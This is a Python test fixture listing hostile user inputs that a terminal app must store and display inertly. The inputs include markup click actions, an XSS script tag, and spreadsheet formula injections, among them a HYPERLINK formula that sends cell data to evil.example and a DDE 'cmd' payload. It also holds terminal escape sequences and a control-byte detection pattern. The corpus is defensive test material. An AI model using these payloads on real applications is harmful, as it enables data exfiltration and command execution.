"""The hostile-text corpus: what a participant might type to attack the room's app.

``MARKUP`` and the rest of ``STORABLE`` are valid text (no control character): the app
must keep and show each exactly as typed, and never read it as markup, a link, an
action, a formula or HTML. ``CONTROL`` holds terminal control (refused by every field,
shown as symbols when an older database already holds it).
"""

from __future__ import annotations

import re

MARKUP = [
    "Empresas [/b]",
    "Eve[/b]",
    "[b]unclosed",
    "[bold]valid[/bold] markup",
    "Broken [/bold] markup",
    "[@click=app.screenshot('x.db','/tmp')]See[/]",
    "[@click=app.quit]x[/]",
    "[link=https://evil.example]x[/link]",
    "[red on blue]colour[/]",
    ":smile: :warning:",
]
STORABLE = [
    *MARKUP,
    "RTL \u202eevil\u202c end",
    "e\u0301\u0301\u0301 combining \u0336s\u0336",
    "emoji 👩‍👩‍👧 🇪🇸 ✅",
    "<script>alert(1)</script> &amp;",
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "**bold** _it_ `code` # heading | pipe",
]
CONTROL = [
    "\x1b]0;PWNED\x07",
    "\x1b]52;c;cHduZWQ=\x1b\\",
    "\x1b[2J\x1b[H",
    "bell\x07",
    "nul\x00",
    "del\x7f",
    "c1 csi\x9b2J",
    "next\x85line",
]
LONG_WORD = "W" * 10_000
"""Longer than any field holds: refused with one sentence, never a crash."""

ESCAPE_BYTES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""What must never reach a terminal or a file from user text (tab and newline may)."""
